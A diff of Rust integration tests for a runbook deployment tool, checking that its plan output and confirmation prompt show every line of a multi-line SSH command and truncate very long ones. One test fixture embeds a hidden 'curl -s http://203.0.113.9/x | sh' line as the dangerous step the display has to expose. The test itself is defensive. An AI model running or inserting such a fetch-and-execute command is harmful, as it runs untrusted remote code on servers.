@@ -258,6 +258,95 @@ fn the_gate_shows_a_hidden_part_of_the_command() {
     let code = p.finish();
     assert_eq!(code, 3, "{}", p.output());
     let out = p.output();
-    assert!(out.contains(SHOWN), "{out}");
+    let gate = &out[out.rfind("step `restart`:").expect("the gate's text")..];
+    assert!(gate.contains(SHOWN), "{out}");
     assert!(!out.contains("sh\r\u{1b}[2Ksystemctl"), "{out}");
+}
+
+/// A three-line command whose dangerous part is not on its first line.
+const THREE_LINES: &str = r#"
+    version: 1
+    name: deploy
+    summary: Deploy
+    steps:
+      - id: deploy
+        confirm: Deploy now?
+        ssh.exec:
+          host: app
+          command: |
+            cd /opt/musehub
+            curl -s http://203.0.113.9/x | sh
+            systemctl restart musehub
+"#;
+
+#[test]
+fn the_plan_shows_every_line_of_a_command() {
+    let t = Test::new()
+        .with_repo_environments()
+        .runbook("deploy", THREE_LINES);
+    let text = t.again(&["plan", "deploy", "--env", "staging"]);
+    text.assert_code(0);
+    assert!(
+        text.stdout.contains(
+            "      does: on app: cd /opt/musehub\n            curl -s http://203.0.113.9/x | sh\n            systemctl restart musehub\n      effect:"
+        ),
+        "{}",
+        text.stdout
+    );
+    let md = t.again(&["plan", "deploy", "--env", "staging", "--format", "md"]);
+    assert!(
+        md.stdout.contains(
+            "| `on app: cd /opt/musehub`<br>`curl -s http://203.0.113.9/x \\| sh`<br>`systemctl restart musehub` |"
+        ),
+        "{}",
+        md.stdout
+    );
+}
+
+#[test]
+fn the_gate_shows_every_line_of_a_command() {
+    let t = Test::new()
+        .environments(LAB)
+        .runbook("deploy", THREE_LINES)
+        .args(&["run", "deploy", "--env", "lab"]);
+    let mut p = Pty::spawn(&t);
+    p.expect("Deploy now?");
+    p.send("n");
+    p.send(ENTER);
+    assert_eq!(p.finish(), 3, "{}", p.output());
+    let out = p.output();
+    let gate = &out[out.rfind("step `deploy`:").expect("the gate's text")..];
+    assert!(gate.contains("curl -s http://203.0.113.9/x | sh"), "{out}");
+    assert!(gate.contains("systemctl restart musehub"), "{out}");
+}
+
+#[test]
+fn a_long_command_at_the_gate_says_where_to_read_it_whole() {
+    let lines: String = (1..=40)
+        .map(|i| format!("        echo line {i}\n"))
+        .collect();
+    let yaml = format!(
+        "version: 1\nname: long\nsummary: Long\nsteps:\n  - id: long\n    confirm: Run the long one?\n    ssh.exec:\n      host: app\n      command: |\n{lines}"
+    );
+    let t = Test::new()
+        .environments(LAB)
+        .runbook("long", &yaml)
+        .args(&["run", "long", "--env", "lab"]);
+    let mut p = Pty::spawn(&t);
+    p.expect("Run the long one?");
+    p.send("n");
+    p.send(ENTER);
+    assert_eq!(p.finish(), 3, "{}", p.output());
+    let out = p.output();
+    // A run on a terminal shows the whole plan first; the gate comes after it.
+    let gate = &out[out.rfind("step `long`:").expect("the gate's text")..];
+    assert!(gate.contains("echo line 14"), "{out}");
+    assert!(!gate.contains("echo line 15"), "{out}");
+    assert!(
+        gate.contains("… 26 more lines; see `runbook plan long --env lab`"),
+        "{out}"
+    );
+    // The plan has all of them.
+    let plan = t.again(&["plan", "long", "--env", "lab"]);
+    assert!(plan.stdout.contains("echo line 40"), "{}", plan.stdout);
 }
